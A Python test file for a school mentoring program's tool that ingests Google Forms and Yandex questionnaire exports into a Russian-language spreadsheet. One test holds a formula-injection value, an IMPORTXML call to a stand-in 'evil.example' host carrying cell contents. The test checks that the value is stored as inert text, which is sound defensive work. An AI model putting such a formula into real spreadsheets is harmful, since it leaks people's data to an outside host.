"""`ingest` on the local backend: exports dropped into forms/ land in the banks exactly once."""
from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from jobs.cli import State
from jobs.cli.cmd_ingest import ingest as ingest_command
from jobs.ingest import ingest
from jobs.init import init_workspace
from jobs.nightly import nightly
from jobs.validate import validate
from jobs.config import render_local_config
from jobs.init import DEFAULT_SCHOOL
from sheets_schema import ru
from sheets_schema.questionnaires import MENTEE_FORM, MENTOR_FORM, MONITORING_FORM
from sync.local import create_local_workspace
from tests.workspaces import NOW, column_values, local_workspace

MENTEE_HEADERS_RU = ["Отметка времени", "Адрес электронной почты"] + [q.title for q in MENTEE_FORM.form_questions]
SERVICE_TABS = ("Наставляемые", "Наставники", "Мониторинг", "Анкеты (служебный)")


def mentee_answers(i: int, **override) -> dict[str, str]:
    base = {
        "full_name": f"Иванова Мария Петровна{'' if i == 0 else ' ' + chr(1040 + i % 32)}",
        "position": "учитель", "subject": "математика", "levels": "основное общее, среднее общее",
        "years": "2", "category": "без категории", "young": "да",
        "difficulties": "современный урок, работа с родителями, страх перед классом",
        "preferred_form": "традиционная (один на один)", "preferred_mentor": "", "timetable": "пн, ср",
        "pd_consent": "да",
    }
    base.update(override)
    return base


def write_csv(path: Path, headers: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:  # Google Forms downloads UTF-8
        writer = csv.writer(f)
        writer.writerow(headers)
        writer.writerows(rows)
    return path


def mentee_row(stamp: str, email: str, answers: dict[str, str]) -> list[str]:
    return [stamp, email] + [answers[q.key] for q in MENTEE_FORM.form_questions]


def by_email(path: Path, tab: str = "Наставляемые") -> dict[str, dict[str, str]]:
    ws = load_workbook(path)[tab]
    headers = [c.value for c in ws[1]]
    out = {}
    for row in ws.iter_rows(min_row=2, values_only=True):
        record = {h: ("" if v is None else str(v)) for h, v in zip(headers, row)}
        if record.get("E-mail"):
            out[record["E-mail"].lower()] = record
    return out


def journal(path: Path) -> list[str]:
    return [str(v or "") for v in column_values(path, "Журнал", "Подробности").values()]


@pytest.fixture
def workspace(tmp_path):
    return local_workspace(tmp_path / "w")


def test_google_forms_csv_with_russian_headers_is_ingested(workspace):
    write_csv(workspace.directory / "forms" / "Анкета наставляемого (Ответы) - Ответы на форму (1).csv",
              MENTEE_HEADERS_RU, [mentee_row("02.11.2026 9:41:07", "Ivanova.M@school26.example", mentee_answers(0))])

    result = ingest(workspace, now=NOW)

    assert result.exit_code == 0 and result.problems == []
    assert result.new == 1 and result.appended == {"Наставляемые": 1}
    row = by_email(workspace.path)["ivanova.m@school26.example"]
    assert row["ФИО"] == "Иванова Мария Петровна"
    assert row["E-mail"] == "Ivanova.M@school26.example"  # stored as given
    assert row["Уровень образования"] == "основное общее, среднее общее"
    assert row["Профессиональные затруднения"] == "современный урок, работа с родителями"
    assert row["Другое затруднение"] == "страх перед классом"
    assert row["Согласие на обработку ПДн (дата)"] == "02.11.2026"
    assert row["Статус"] == "" and row["Примечание"] == ""
    assert journal(workspace.path)[-1].startswith("Анкеты: новых ответов 1; добавлено людей 1;")

    checked = validate(workspace, now=NOW)
    assert checked.summaries[0].ok == 1 and checked.summaries[0].error == 0


def test_english_headers_and_yandex_xlsx_export(workspace):
    headers = ["Timestamp", "Email Address"] + [q.title for q in MENTOR_FORM.form_questions]
    answers = {"full_name": "Петров Пётр Петрович", "position": "учитель", "subject": "физика",
               "levels": "среднее общее", "years": "25", "category": "высшая", "young": "нет",
               "competences": "современный урок, аттестация", "capacity": "2",
               "preferred_forms": "традиционная (один на один), групповая", "timetable": "вт",
               "motivation": "Хочу помочь молодым", "past_mentoring": "да, 3 года",
               "pd_consent": "да", "duty_consent": "да"}
    write_csv(workspace.directory / "forms" / "mentor.csv", headers,
              [["11/3/2026 14:02:11", "petrov@school26.example"] + [answers[q.key] for q in MENTOR_FORM.form_questions]])
    wb = Workbook()
    ws = wb.active
    ws.append(["ID", "Время создания", "E-mail", "Ваша роль в программе",
               *[q.title for q in MONITORING_FORM.form_questions if q.key != "role"]])
    ws.append([4711, dt.datetime(2026, 11, 20, 10, 15), "petrov@school26.example", "наставник",
               "ivanova@school26.example", 9, 8, 7, 8, 9, 10, "современный урок"])
    wb.save(workspace.directory / "forms" / "yandex-monitoring.xlsx")

    result = ingest(workspace, now=NOW)

    assert result.problems == [] and result.new == 2 and result.monitoring == 1
    mentor = by_email(workspace.path, "Наставники")["petrov@school26.example"]
    assert mentor["Компетенции"] == "современный урок, аттестация"
    assert mentor["Письменное согласие на наставничество (дата)"] == "03.11.2026"
    monitoring = load_workbook(workspace.path)["Мониторинг"]
    values = [c.value for c in monitoring[2]]
    assert values[:5] == ["20.11.2026 10:15:00", "наставник", None, "petrov@school26.example",
                          "ivanova@school26.example"]
    assert values[5:11] == ["9", "8", "7", "8", "9", "10"]
    assert values[12].startswith("Пара не найдена: нет пары, где petrov@school26.example — наставник")


def test_500_responses_then_three_runs_change_nothing(workspace):
    rows = [mentee_row(f"{1 + i % 28:02d}.10.2026 {8 + i % 10}:{i % 60:02d}:00", f"t{i}@school26.example",
                       mentee_answers(i)) for i in range(500)]
    forms = workspace.directory / "forms"
    write_csv(forms / "answers.csv", MENTEE_HEADERS_RU, rows)
    first = ingest(workspace, now=NOW)
    assert first.new == 500 and first.appended == {"Наставляемые": 500}
    before = workspace.read_grids([*SERVICE_TABS, "Журнал"])
    assert len([r for r in before["Наставляемые"][1:] if any(r)]) == 500

    # run 2: the same export dropped again; run 3: a newer export repeating the old rows; run 4
    (forms / "answers (1).csv").write_bytes((forms / "answers.csv").read_bytes())
    for step in range(3):
        if step == 1:
            write_csv(forms / "answers-newer.csv", MENTEE_HEADERS_RU, list(reversed(rows)))
        again = ingest(workspace, now=NOW)
        assert (again.new, again.commit.cells_written, again.commit.rows_appended) == (0, 0, 0)
    # not a cell changed; a quiet run does not even log itself in «Журнал»
    assert workspace.read_grids([*SERVICE_TABS, "Журнал"]) == before


def test_edited_response_updates_the_row_and_staff_edits_survive(workspace):
    forms = workspace.directory / "forms"
    write_csv(forms / "v1.csv", MENTEE_HEADERS_RU,
              [mentee_row("02.11.2026 9:00:00", "ivanova@school26.example", mentee_answers(0)),
               mentee_row("02.11.2026 9:30:00", "sidorova@school26.example", mentee_answers(1))])
    ingest(workspace, now=NOW)
    wb = load_workbook(workspace.path)
    ws = wb["Наставляемые"]
    headers = [c.value for c in ws[1]]
    ws.cell(row=2, column=headers.index("Примечание") + 1, value="перевод из школы № 3")  # staff-owned
    ws.cell(row=2, column=headers.index("Предмет") + 1, value="информатика")  # staff corrects a form field
    wb.save(workspace.path)

    # Google's CSV shows an edited response once, with its new timestamp
    edited = mentee_answers(0, years="3", subject="физика", timetable="пт")
    write_csv(forms / "v2.csv", MENTEE_HEADERS_RU,
              [mentee_row("05.11.2026 18:00:00", "ivanova@school26.example", edited),
               mentee_row("02.11.2026 9:30:00", "sidorova@school26.example", mentee_answers(1))])
    result = ingest(workspace, now=NOW)

    row = by_email(workspace.path)["ivanova@school26.example"]
    assert row["Педагогический стаж, лет"] == "3" and row["Удобные дни для встреч"] == "пт"
    assert row["Примечание"] == "перевод из школы № 3"
    assert row["Предмет"] == "информатика"
    assert result.new == 1 and result.updated == 2
    conflict = ru.INGEST["conflict"].format(
        tab="Наставляемые", email="ivanova@school26.example", column="Предмет", current="информатика",
        answer="физика", date="05.11.2026 18:00:00")
    assert result.conflicts == [conflict]
    assert conflict in journal(workspace.path)[-1]
    assert len(by_email(workspace.path)) == 2

    # an old export dropped late does not undo the newer answers
    write_csv(forms / "old.csv", MENTEE_HEADERS_RU,
              [mentee_row("01.11.2026 7:00:00", "ivanova@school26.example", mentee_answers(0, years="1"))])
    ingest(workspace, now=NOW)
    assert by_email(workspace.path)["ivanova@school26.example"]["Педагогический стаж, лет"] == "3"


def test_consent_no_then_withdrawal_by_response_and_by_staff(workspace):
    forms = workspace.directory / "forms"
    write_csv(forms / "a.csv", MENTEE_HEADERS_RU, [
        mentee_row("02.11.2026 9:00:00", "nocons@school26.example", mentee_answers(1, pd_consent="нет")),
        mentee_row("02.11.2026 9:10:00", "later@school26.example", mentee_answers(2)),
        mentee_row("02.11.2026 9:20:00", "staff@school26.example", mentee_answers(3)),
    ])
    ingest(workspace, now=NOW)
    validate(workspace, now=NOW)
    rows = by_email(workspace.path)
    assert rows["nocons@school26.example"]["Согласие на обработку ПДн (дата)"] == ""
    assert rows["nocons@school26.example"]["Статус"] == ru.STATUS_NO_CONSENT
    assert rows["later@school26.example"]["Статус"] == ru.STATUS_OK

    write_csv(forms / "b.csv", MENTEE_HEADERS_RU, [
        mentee_row("10.11.2026 12:00:00", "later@school26.example", mentee_answers(2, pd_consent="нет"))])
    wb = load_workbook(workspace.path)
    ws = wb["Наставляемые"]
    col = [c.value for c in ws[1]].index("Согласие на обработку ПДн (дата)") + 1
    for r in range(2, ws.max_row + 1):
        if ws.cell(row=r, column=2).value == "staff@school26.example":
            ws.cell(row=r, column=col).value = None  # cell(..., value=None) would not clear it
    wb.save(workspace.path)

    result = ingest(workspace, now=NOW)
    assert result.withdrawals == [
        ru.INGEST["withdrawn_form"].format(tab="Наставляемые", email="later@school26.example", date="10.11.2026 12:00:00"),
        ru.INGEST["withdrawn_staff"].format(tab="Наставляемые", email="staff@school26.example"),
    ]
    assert all(w in journal(workspace.path)[-1] for w in result.withdrawals)
    assert ingest(workspace, now=NOW).withdrawals == []  # recorded once
    validate(workspace, now=NOW)
    rows = by_email(workspace.path)
    assert rows["later@school26.example"]["Согласие на обработку ПДн (дата)"] == ""
    assert {rows[e]["Статус"] for e in ("later@school26.example", "staff@school26.example")} == {ru.STATUS_NO_CONSENT}


def test_bad_answers_are_stored_as_given_and_marked_by_validate(workspace):
    formula = '=IMPORTXML("https://evil.example/?"&A1, "//a")'
    write_csv(workspace.directory / "forms" / "a.csv", MENTEE_HEADERS_RU, [
        mentee_row("02.11.2026 9:00:00", "ivanova at school26", mentee_answers(0, years="двадцать")),
        mentee_row("02.11.2026 9:05:00", "x@school26.example", mentee_answers(1, full_name=formula)),
    ])
    result = ingest(workspace, now=NOW)
    assert result.appended == {"Наставляемые": 2}
    validate(workspace, now=NOW)
    rows = by_email(workspace.path)
    bad = rows["ivanova at school26"]
    assert bad["Педагогический стаж, лет"] == "двадцать" and bad["Статус"] == ru.STATUS_ERROR
    ws = load_workbook(workspace.path)["Наставляемые"]
    cell = next(ws.cell(row=r, column=1) for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=2).value == "x@school26.example")
    assert cell.value == formula and cell.data_type == "s"  # text, not a live formula
    assert rows["x@school26.example"]["Статус"] == ru.STATUS_ERROR


def test_unmapped_header_is_reported_and_other_files_still_ingested(workspace):
    forms = workspace.directory / "forms"
    write_csv(forms / "broken.csv", MENTEE_HEADERS_RU + ["Любимый предмет в школе"],
              [mentee_row("02.11.2026 9:00:00", "a@school26.example", mentee_answers(0)) + ["химия"]])
    write_csv(forms / "good.csv", MENTEE_HEADERS_RU,
              [mentee_row("02.11.2026 9:00:00", "b@school26.example", mentee_answers(1))])
    result = ingest(workspace, now=NOW)
    message = ("Файл «broken.csv» (анкета «Анкета наставляемого»): столбец «Любимый предмет в школе» не "
               "соответствует ни одному вопросу анкеты (ближе всего — «Предмет (методическое объединение)»). "
               "Назовите столбец так же, как вопрос (список вопросов — в файле forms/анкета-наставляемого.md), "
               "или удалите столбец; остальные столбцы файла приняты, ответы этого столбца будут приняты, "
               "когда столбец назовут как вопрос.")
    assert result.problems == [message] and result.exit_code == 1
    # the file's other columns are taken (before issue 13 the whole file was refused)
    assert set(by_email(workspace.path)) == {"a@school26.example", "b@school26.example"}
    assert by_email(workspace.path)["a@school26.example"]["ФИО"] == "Иванова Мария Петровна"
    assert message in journal(workspace.path)[-1]

    runner = CliRunner(mix_stderr=False) if "mix_stderr" in CliRunner.__init__.__code__.co_varnames else CliRunner()
    out = runner.invoke(ingest_command, [], obj=State(str(workspace.directory / "nastavnik.toml")))
    assert out.exit_code == 1
    assert f"Ошибка: {message}" in out.stderr
    assert "Анкеты: новых ответов 0;" in out.stdout


def test_monitoring_is_linked_to_the_pair_and_an_edit_updates_its_row(tmp_path):
    pairs = [{"pair_id": "П-001", "mentor_email": "petrov@school26.example",
              "mentee_emails": "ivanova@school26.example", "status": "утверждена"}]
    workspace = local_workspace(tmp_path / "w", rows={"pairs": pairs})
    headers = ["Отметка времени", "Адрес электронной почты"] + [q.title for q in MONITORING_FORM.form_questions]
    answers = ["наставляемый", "petrov@school26.example", "9", "8", "7", "6", "9", "10", "современный урок, аттестация"]
    write_csv(workspace.directory / "forms" / "m1.csv", headers,
              [["20.11.2026 10:00:00", "ivanova@school26.example", *answers]])
    ingest(workspace, now=NOW)
    write_csv(workspace.directory / "forms" / "m2.csv", headers,
              [["21.11.2026 10:00:00", "ivanova@school26.example", *answers[:2], "10", *answers[3:]]])
    result = ingest(workspace, now=NOW)
    ws = load_workbook(workspace.path)["Мониторинг"]
    assert ws.max_row == 2 and result.monitoring == 1
    values = [c.value for c in ws[2]]
    assert values[:7] == ["21.11.2026 10:00:00", "наставляемый", "П-001", "ivanova@school26.example",
                          "petrov@school26.example", "10", "8"]
    assert values[-2:] == ["современный урок, аттестация", None]


def test_nightly_ingests_before_validate_and_survives_a_failing_ingest(workspace, monkeypatch):
    write_csv(workspace.directory / "forms" / "a.csv", MENTEE_HEADERS_RU,
              [mentee_row("02.11.2026 9:00:00", "ivanova@school26.example", mentee_answers(0))])
    result = nightly(workspace, now=NOW)
    assert [s.job for s in result.steps][:3] == ["upgrade", "ingest", "validate"]
    assert by_email(workspace.path)["ivanova@school26.example"]["Статус"] == ru.STATUS_OK

    import sync.local.forms

    def broken(*args, **kwargs):
        raise RuntimeError("диск отвалился")

    monkeypatch.setattr(sync.local.forms, "read_responses", broken)
    result = nightly(workspace, now=NOW)
    assert [(s.job, s.exit_code) for s in result.steps][1:3] == [("ingest", 3), ("validate", 0)]
    assert result.steps[1].errors == [
        "шаг прерван внутренней ошибкой (RuntimeError: диск отвалился); остальные шаги выполнены, "
        "подробности — в журнале запуска"]


def test_init_writes_readable_questionnaires(tmp_path):
    target = tmp_path / "school"
    result = init_workspace(lambda rows: create_local_workspace(target, rows, render_local_config(DEFAULT_SCHOOL)),
                            today=NOW.date())
    names = sorted(p.name for p in (target / "forms").iterdir())
    assert names == ["анкета-мониторинга.md", "анкета-наставляемого.md", "анкета-наставника.md",
                     "анкета-отчёт-наставника.md",  # issue 19: the mentor's final report
                     "анкета-самооценки.md"]  # issue 19: the mentee's self-assessment
    assert result.questionnaires == [ru.INGEST["documents"].format(path=target / "forms")]
    assert "## 16. Согласие на наставническую деятельность" in (target / "forms" / "анкета-наставника.md").read_text(encoding="utf-8")
    assert ingest(workspace=result.workspace, now=NOW).new == 0  # the documents are no exports
